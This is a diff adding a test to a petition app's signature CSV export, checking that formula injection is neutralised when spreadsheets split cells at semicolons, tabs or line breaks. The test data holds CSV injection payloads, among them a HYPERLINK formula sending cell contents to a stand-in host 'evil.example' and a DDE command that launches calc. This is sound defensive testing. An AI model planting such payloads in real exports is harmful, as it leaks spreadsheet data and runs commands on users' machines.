@@ -169,6 +169,30 @@ test.group('Signatures export', (group) => {
     assert.isTrue(emails.has('signer0@example.org') && emails.has(`signer${count - 1}@example.org`))
   })
 
+  test('no piece of a cell starts a formula when a spreadsheet splits it at a semicolon, tab or line break', async ({
+    client,
+    assert,
+  }) => {
+    const { petition, owner, district } = await makePetitionWithEveryColumn()
+    await addSignature(petition, {
+      firstName: 'x;=HYPERLINK("http://evil.example/?"&A1)',
+      lastName: 'y\t+1+1',
+      comment: 'fine\n-2+3\r\n@SUM(A1:A9);=cmd|\' /C calc\'!A0',
+      customFieldsData: { [district.id]: 'a;-1' },
+    })
+
+    const text = (await download(client, petition, owner)).text().slice(1)
+    // Excel in a semicolon locale, and a paste of tab-separated text, split
+    // there; the worst reader ignores quotes altogether.
+    const pieces = text.split(/[,;\t\r\n]/).map((piece) => piece.replace(/^"+/, ''))
+    const formulas = pieces.filter((piece) => /^[=+\-@]/.test(piece))
+    assert.deepEqual(formulas, [])
+    // A careful reader still gets the words back, one apostrophe per formula.
+    const row = parseCsv(text)[1]
+    assert.equal(row[1], `x;'=HYPERLINK("http://evil.example/?"&A1)`)
+    assert.equal(row[4], `fine\n'-2+3\r\n'@SUM(A1:A9);'=cmd|' /C calc'!A0`)
+  })
+
   test("a member's exports are rate-limited", async ({ client, assert }) => {
     const { petition, owner } = await makePetition()
     await addSignature(petition, { email: 'limited@example.org' })
